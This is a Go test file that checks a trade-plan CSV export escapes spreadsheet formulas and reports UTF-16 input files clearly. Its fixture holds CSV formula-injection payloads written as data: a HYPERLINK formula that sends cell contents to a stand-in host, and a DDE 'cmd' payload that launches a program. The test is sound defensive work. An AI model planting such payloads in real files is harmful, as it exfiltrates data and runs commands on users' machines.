package plan

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/tradeplan/tradeplan"
)

// TestAttackPlanCSVFormula (redteam, wave 6): a plan's lines written as CSV
// (the plan's download for an amendment, on the web and the API) are
// opened in a spreadsheet: no cell of applicant text starts a formula. The
// file read back gives the lines as written, formulas and all, so an
// amendment made from the download changes nothing it did not mean to.
func TestAttackPlanCSVFormula(t *testing.T) {
	p, err := Parse([]byte(`plan: {id: p, organisation: O, country: KP, period: 2027-Q1}
lines:
  - {direction: import, description: '=HYPERLINK("http://x.example/?"&A1,"click")', hs: "100630", quantity: 1.5, unit: t, value: 10, currency: USD,
     partner: {name: "@SUM(1+1)", country: CN}, vessel: {name: "+cmd|' /C calc'!A0"}, purpose: "-2+3", exemption: "'=quoted already", crossing: "namyang-tumen"}
  - {direction: import, description: "'plain with apostrophe", hs: "100630", quantity: 2, unit: t, partner: {name: "＝SUM(1)", country: CN}}
`), "s.yaml", YAML)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Write(&b, p, CSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		for _, c := range r {
			if !strings.HasPrefix(c, "'") && tradeplan.CSVFormula(c) {
				t.Errorf("cell %q starts a formula:\n%s", c, b.String())
			}
		}
	}
	q, err := Read(bytes.NewReader(b.Bytes()), "again.csv", CSV)
	if err != nil {
		t.Fatalf("%v\n%s", err, b.String())
	}
	if d := sameLines(p, q); d != "" {
		t.Errorf("read back: %s\n%s", d, b.String())
	}
	if !strings.Contains(b.String(), `'=HYPERLINK`) {
		t.Errorf("the formula is not kept as text:\n%s", b.String())
	}
}

// TestAttackUTF16Documents (redteam, wave 6): a line file or a JSON plan
// saved as UTF-16 ("Unicode text") was told of ten unknown columns full of
// NULs, or of a JSON syntax error at 'ÿ'; it is told what the file is and
// how to save it, at 1:1, on every reader (a whole document, a stream).
func TestAttackUTF16Documents(t *testing.T) {
	utf16 := func(s string, le bool) []byte {
		b := []byte{0xfe, 0xff}
		if le {
			b = []byte{0xff, 0xfe}
		}
		for _, r := range s {
			if le {
				b = append(b, byte(r), 0)
			} else {
				b = append(b, 0, byte(r))
			}
		}
		return b
	}
	csvText := "direction,description,hs,origin,destination,quantity,unit\nimport,rice,100630,CN,KP,5,t\n"
	jsonText := `{"plan": {"id": "p", "country": "KP"}, "lines": []}`
	for _, le := range []bool{true, false} {
		for _, tc := range []struct {
			name string
			f    Format
			text string
		}{{"csv", CSV, csvText}, {"json", JSON, jsonText}} {
			data := utf16(tc.text, le)
			_, err := Parse(data, "p."+tc.name, tc.f)
			if err == nil || !strings.Contains(err.Error(), "UTF-16") || !strings.Contains(err.Error(), "1:1") {
				t.Errorf("%s (little-endian %v): %v, want the file named UTF-16 at 1:1", tc.name, le, err)
			}
			if tc.f == CSV {
				if _, err := NewCSVReader(bytes.NewReader(data), "p.csv"); err == nil || !strings.Contains(err.Error(), "UTF-16") {
					t.Errorf("stream (little-endian %v): %v, want the file named UTF-16", le, err)
				}
			}
		}
	}
}
